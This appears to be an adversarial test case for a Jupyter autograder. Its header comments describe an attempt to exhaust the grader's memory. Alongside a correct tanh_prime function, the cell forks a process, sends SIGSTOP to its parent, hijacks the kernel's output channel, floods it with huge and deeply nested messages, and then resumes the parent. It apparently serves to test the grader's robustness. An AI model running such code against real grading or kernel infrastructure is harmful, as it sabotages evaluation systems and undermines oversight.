# Tries: to fill the grader's own memory: stops its own process, takes the channel over and sends
#   message after message, of the largest sizes that are received.
# Holds: nothing of them piles up, and the time for the cell ends it. The answer is right if nothing
#   stopped 64 GB.
# Loses: tanh_prime
# Shares: messages
# Harms: yes

# %% tanh_prime
import os
import signal
import struct

from autograder.judge.protocol import encode

_channel = get_ipython().outlet._connection
_text = encode({"shown": "stream", "content": {"text": ["x" * 4_000_000]}})
_nested = b"[" * 2_000_000 + b"]" * 2_000_000
_large = encode({"shown": "stream", "content": {"text": np.zeros(2**23 - 100)}})
_child = os.fork()
if _child == 0:
    os.kill(os.getppid(), signal.SIGSTOP)
    for _ in range(2**10):
        _channel.sendall(_text)
        _channel.sendall(_large)
    _channel.sendall(struct.pack("!II", len(_nested), 0) + _nested)
    os.kill(os.getppid(), signal.SIGCONT)
    os._exit(0)
os.waitpid(_child, 0)  # else the flood might come when this cell has long been done


def tanh_prime(x):
    return 1 - np.tanh(x) ** 2
